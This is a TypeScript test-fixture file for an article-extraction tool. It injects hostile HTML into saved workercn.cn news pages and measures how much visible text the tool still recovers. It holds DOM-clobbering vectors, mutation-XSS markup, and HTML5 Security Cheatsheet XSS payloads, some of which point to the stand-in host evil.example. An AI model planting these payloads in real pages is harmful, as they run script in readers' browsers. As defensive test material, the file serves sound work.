/**
 * Hostile pages for the extraction tests, the same for every path (Node, the browser's DOMParser,
 * the live page with the built extension): DOMPurify's DOM-clobbering vectors and the malformed
 * markup that made text vanish, each placed in one position of a real fixture page.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { isNoiseLine } from '../../utils/site/blocks';
import { CONTINUATION } from '../../utils/site/normalize';

const FIXTURES = path.resolve(import.meta.dirname, '../fixtures/workercn');
const source = (name: string) => readFileSync(path.join(FIXTURES, name, 'source.html'), 'utf8');
const expected = (name: string) =>
  JSON.parse(readFileSync(path.join(FIXTURES, name, 'expected.json'), 'utf8')) as {
    title: string;
    pretitle: string;
    paragraphs: string[];
  };

/** Properties a form's named control shadows (DOMPurify's clobbering tests, and what our walks read). */
export const FORM_PROPERTIES = [
  'parentNode',
  'parentElement',
  'attributes',
  'childNodes',
  'children',
  'nodeName',
  'nodeType',
  'nodeValue',
  'firstChild',
  'lastChild',
  'nextSibling',
  'previousSibling',
  'firstElementChild',
  'lastElementChild',
  'nextElementSibling',
  'previousElementSibling',
  'tagName',
  'localName',
  'namespaceURI',
  'id',
  'className',
  'textContent',
  'innerHTML',
  'ownerDocument',
  'getAttribute',
  'hasAttribute',
  'setAttribute',
  'removeAttribute',
  'removeAttributeNode',
  'querySelector',
  'querySelectorAll',
  'getElementsByTagName',
  'cloneNode',
  'appendChild',
  'insertBefore',
  'removeChild',
  'replaceChild',
  'remove',
  'hasChildNodes',
  'contains',
  'matches',
  'closest',
  'submit',
  'length',
  '__depth',
  '__removalCount',
] as const;

/** Properties `<img name>` / `<form name>` shadow on `document`. */
export const DOCUMENT_PROPERTIES = [
  'body',
  'documentElement',
  'head',
  'title',
  'querySelector',
  'querySelectorAll',
  'getElementsByTagName',
  'getElementById',
  'createElement',
  'createTextNode',
  'createTreeWalker',
  'cloneNode',
  'importNode',
  'adoptNode',
  'firstElementChild',
  'childNodes',
  'activeElement',
  'baseURI',
  'documentURI',
  'implementation',
  'cookie',
] as const;

export interface Vector {
  name: string;
  html: string;
  /** The browser, per the standard, puts the rest of the page in raw text (not shown): only what comes before counts. */
  swallowsRest?: boolean;
}

/** Every clobbering vector: a named (and an id'd) control per form property, nested forms, names on `document`. */
export const CLOBBERING_VECTORS: Vector[] = [
  ...FORM_PROPERTIES.map((p) => ({
    name: `form input name=${p}`,
    html: `<div onclick=alert(0)><form onsubmit=alert(1)><input onfocus=alert(2) name=${p}>123</form></div>`,
  })),
  ...FORM_PROPERTIES.filter((_, i) => i % 3 === 0).map((p) => ({
    name: `form input id=${p}`,
    html: `<form onsubmit=alert(1)><input id=${p}>123</form>`,
  })),
  {
    name: 'two controls named parentNode (a RadioNodeList)',
    html: '<form><input name=parentNode><input name=parentNode>123</form>',
  },
  { name: 'img named parentNode in a form', html: '<form><img name=parentNode src=x>123</form>' },
  { name: 'fieldset holding the control', html: '<form><fieldset><input name=childNodes></fieldset>123</form>' },
  { name: 'control outside, form= its owner', html: '<form id=wdrf></form><input form=wdrf name=parentNode>123' },
  { name: 'form named parentNode', html: '<form name=parentNode><input name=parentNode>123</form>' },
  {
    name: 'nested forms (the inner start tag ignored)',
    html: '<form><input name=parentNode>123<form><input name=nextSibling>456</form></form>',
  },
  {
    name: 'nested forms through math (DOMPurify mXSS)',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    swallowsRest: true,
  },
  { name: 'nested forms through a table', html: '<form id=a><table><form id=b><input name=parentNode></table>123' },
  ...DOCUMENT_PROPERTIES.map((p) => ({ name: `document img name=${p}`, html: `<img src=x name=${p}>` })),
  ...DOCUMENT_PROPERTIES.filter((_, i) => i % 2 === 0).map((p) => ({
    name: `document form name=${p}`,
    html: `<form name=${p}></form>`,
  })),
  {
    name: 'document embed/object/iframe names',
    html: '<embed name=body><object id=body></object><iframe name=body></iframe>',
  },
  { name: 'a id=location (DOMPurify demo)', html: '<a href="#some-code-here" id="location">invisible</a>' },
];

/** Markup that made text the browser shows vanish (issue 19), each followed by the page's paragraphs. */
export const MALFORMED_VECTORS: Vector[] = [
  { name: 'unclosed form', html: '<form action="/search"><input name=q><input type=submit value=搜索>' },
  { name: 'unclosed button', html: '<button type=button>展开全文' },
  { name: 'unclosed a id=location', html: '<a href="#some-code-here" id="location">invisible' },
  // the standard puts everything after this <style> in its raw text: the browser shows none of it
  { name: 'math mtext', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', swallowsRest: true },
  { name: 'math mtext holding paragraphs', html: '<math><mtext><p>公式里的段落文字。</p></mtext></math>' },
  { name: 'unclosed math mtext', html: '<math><mi>x</mi><mtext>' },
  { name: '--!> comment end', html: '<!-- a comment --!><img src=x onerror=alert(1)>' },
  { name: 'style inside svg', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { name: 'unclosed svg', html: '<svg><g><circle r=1>' },
  { name: 'frameset in body', html: '<frameset onload=alert(1)><frame src=x></frameset>' },
  {
    name: 'DOMPurify clobbering demo (all of it)',
    html: `<img src='javascript:while(1){}'><a href=data:,evilnastystuff>clickme</a><a href="#some-code-here" id="location">invisible<div onclick=alert(0)><form onsubmit=alert(1)><input onfocus=alert(2) name=parentNode>123</form></div>`,
  },
];

export type Position =
  'epaper-body' | 'epaper-title' | 'epaper-pretitle' | 'epaper-pictures' | 'portal-body' | 'generic';

export const CLOBBERING_POSITIONS: Position[] = [
  'epaper-body',
  'epaper-title',
  'epaper-pretitle',
  'epaper-pictures',
  'generic',
];
export const MALFORMED_POSITIONS: Position[] = ['epaper-body', 'portal-body', 'generic'];

export interface HostilePage {
  name: string;
  position: Position;
  /** Served at this address in e2e (each case its own article number). */
  url: string;
  html: string;
  vector: Vector;
  swallowsRest: boolean;
  /** The case's untouched page: its paragraphs must all still be there (those before the vector where it swallows the rest). */
  paragraphs: string[];
  title: string;
  /** CSS selectors of what the browser shows of the article (text recall is measured over these). */
  shown: string[];
}

const EPAPER = {
  name: 'epaper-article-basic',
  url: (n: number) => `https://www.workercn.cn/papers/grrb/2022/04/29/7/news-${n}.html`,
};
const PORTAL = {
  name: 'portal-article',
  url: (n: number) => `https://www.workercn.cn/c/2022-03-25/${7000000 + n}.shtml`,
};
const GENERIC = {
  name: 'portal-article-generic',
  url: (n: number) => `https://www.workercn.cn/c/2022-03-26/${7100000 + n}.shtml`,
};

/** After the `n`th `<p>` that follows `marker` in `html`. */
function afterParagraph(html: string, marker: string, n: number, insert: string): string {
  let at = html.indexOf(marker);
  for (let i = 0; i < n; i++) at = html.indexOf('</p>', at) + 4;
  return html.slice(0, at) + insert + html.slice(at);
}

export function hostilePage(vector: Vector, position: Position, index: number): HostilePage {
  const v = `\n${vector.html}\n`;
  const make = (base: typeof EPAPER, html: string, shown: string[]): HostilePage => {
    const e = expected(base.name);
    const at = html.indexOf(vector.html);
    const before = (p: string) => html.indexOf(p.slice(0, 8)) < at;
    return {
      name: `${vector.name} @ ${position}`,
      position,
      url: base.url(index),
      html,
      vector,
      swallowsRest: !!vector.swallowsRest,
      paragraphs: vector.swallowsRest ? e.paragraphs.filter(before) : e.paragraphs,
      title: e.title,
      shown,
    };
  };
  const epaper = source(EPAPER.name);
  switch (position) {
    case 'epaper-body':
      return make(EPAPER, afterParagraph(epaper, 'id="ccontent"', 3, v), ['#ccontent']);
    case 'epaper-title':
      return make(EPAPER, epaper.replace('评价模式</h1>', `评价模式${v}</h1>`), ['#ctitle', '#ccontent']);
    case 'epaper-pretitle':
      return make(EPAPER, epaper.replace('<p id="pretitle"></p>', `<p id="pretitle">新职业${v}</p>`), [
        '#pretitle',
        '#ccontent',
      ]);
    case 'epaper-pictures':
      return make(
        EPAPER,
        epaper.replace('<div id="imgs"></div>', `<div id="imgs"><img src="/pic/202204/29/a.jpg">${v}</div>`),
        ['#ccontent'],
      );
    case 'portal-body':
      return make(PORTAL, afterParagraph(source(PORTAL.name), 'class="xq_con"', 2, v), ['.xq_con']);
    case 'generic':
      return make(GENERIC, afterParagraph(source(GENERIC.name), 'class="wz-text"', 4, v), ['.wz-text']);
  }
}

export function clobberingPages(): HostilePage[] {
  let i = 100;
  return CLOBBERING_POSITIONS.flatMap((p) => CLOBBERING_VECTORS.map((v) => hostilePage(v, p, i++)));
}

export function malformedPages(): HostilePage[] {
  let i = 600;
  return MALFORMED_POSITIONS.flatMap((p) => MALFORMED_VECTORS.map((v) => hostilePage(v, p, i++)));
}

const squeeze = (s: string) => s.replace(/\s+/g, '');

/** What an extraction gives a reader, as one string (fields, paragraphs, captions, notes). */
export function extractedText(a: {
  title?: string;
  pretitle?: string;
  subtitle?: string;
  byline?: string;
  source?: string;
  paragraphs: string[];
  images?: { caption?: string; alt?: string }[];
  continuations?: string[];
}): string {
  return squeeze(
    [
      a.pretitle,
      a.title,
      a.subtitle,
      a.byline,
      a.source,
      ...a.paragraphs,
      ...(a.images ?? []).flatMap((i) => [i.caption, i.alt]),
      ...(a.continuations ?? []),
    ]
      .filter(Boolean)
      .join('\n'),
  );
}

/**
 * Recall of the text the browser shows: the share of its characters (line by line, the lines
 * the extraction leaves out by design, editor credits and the like, not counted) found in `got`.
 */
export function recall(shownText: string, got: string): { recall: number; missing: string[] } {
  let total = 0;
  let found = 0;
  const missing: string[] = [];
  for (const raw of shownText.split(/\n+/)) {
    let line = raw.trim();
    if (!line || isNoiseLine(line)) continue;
    line = squeeze(line.replace(CONTINUATION, ''));
    if (!line) continue;
    total += line.length;
    if (got.includes(line)) found += line.length;
    else missing.push(line);
  }
  return { recall: total ? found / total : 1, missing };
}

/** The untouched page a position's case pages are made from: its address, its reviewed reading (expected.json). */
export function untouchedPage(position: Position): {
  name: string;
  url: string;
  expected: ReturnType<typeof expected> & { byline?: string; images?: { caption?: string }[] };
} {
  const name = position.startsWith('epaper') ? EPAPER.name : position === 'portal-body' ? PORTAL.name : GENERIC.name;
  return {
    name,
    url: readFileSync(path.join(FIXTURES, name, 'url.txt'), 'utf8').trim(),
    expected: expected(name),
  };
}

/**
 * The HTML5 Security Cheatsheet payloads the xss-article fixture carries, grouped, each group
 * planted between the paragraphs like the malformed markup (their visible text: 点此5, 背景15 …).
 */
export const CHEATSHEET_VECTORS: Vector[] = [
  {
    name: 'cheatsheet: script, img onerror, svg onload, iframe, javascript: link',
    html: `<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)><circle r="1"/></svg><iframe src="javascript:alert(4)"></iframe><a href="javascript:alert(5)">点此5</a>`,
  },
  {
    name: 'cheatsheet: obfuscated javascript: URLs, data: SVG, object',
    html: `<a href="JaVaScRiPt:alert(6)">点此6</a><a href="&#106;&#97;vascript:alert(7)">点此7</a><a href=" java&#x09;script:alert(8)">点此8</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOSk+"><object data="javascript:alert(10)"></object>`,
  },
  {
    name: 'cheatsheet: embed, form action, closed math mXSS, style @import and url()',
    html: `<embed src="javascript:alert(11)"><form action="javascript:alert(12)"><input type="submit" value="12"></form><math><mtext><table><mglyph><style><img src=x onerror=alert(13)></style></mglyph></table></mtext></math><style>@import 'javascript:alert(14)';</style><div style="background:url(javascript:alert(15))">背景15</div>`,
  },
  {
    name: 'cheatsheet: base, meta refresh, template, details ontoggle, vbscript:',
    html: `<base href="javascript:alert(17)//"><meta http-equiv="refresh" content="0;url=javascript:alert(18)"><template><img src=x onerror=alert(19)></template><details open ontoggle=alert(20)><summary>详情20</summary></details><a href="vbscript:msgbox(22)">点此22</a>`,
  },
  {
    name: 'cheatsheet: onmouseover, source onerror, autofocus, marquee, SVG link text',
    html: `<p onmouseover="alert(24)">悬停24</p><video><source onerror="alert(25)"></video><input autofocus onfocus=alert(26)><marquee onstart=alert(27)>滚动27</marquee><svg><a xlink:href="javascript:alert(29)"><text x="0" y="10">svg29</text></a></svg>`,
  },
  {
    name: 'cheatsheet: srcset, data: link, unknown element, comment-split attribute, textarea',
    html: `<img src="http://img.workercn.cn/ok.jpg" srcset="javascript:alert(30)" onload="alert(30)"><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzMSk8L3NjcmlwdD4=">点此31</a><xss onafterscriptexecute=alert(32)>自定义32</xss><!--<img src="--><img src=x onerror=alert(33)//"><textarea><script>alert(34)</script></textarea>`,
  },
  {
    name: 'cheatsheet: handlers on a real link, scriptlet, import, frameset, formaction',
    html: `<a href="https://www.workercn.cn/" onclick="alert(35)" style="color:red">正常链接35</a><object type="text/x-scriptlet" data="http://evil.example/x.sct"></object><link rel="import" href="http://evil.example/x.html"><frameset onload=alert(37)></frameset><img src="//evil.example/x.png" onerror="alert(38)" alt="相对协议38"><button formaction="javascript:alert(39)">按钮39</button><a href="  javascript:alert(40)" target="_blank">点此40</a>`,
  },
  {
    name: 'cheatsheet: noscript closed inside an attribute',
    html: `<noscript><p title="</noscript><img src=x onerror=alert(21)>"></noscript>`,
  },
];

/** The pages whose recall of the shown text is measured (issue 19): malformed markup and the cheatsheet payloads, in each position. */
export function recallPages(): HostilePage[] {
  let i = 700;
  return [
    ...malformedPages(),
    ...MALFORMED_POSITIONS.flatMap((p) => CHEATSHEET_VECTORS.map((v) => hostilePage(v, p, i++))),
  ];
}
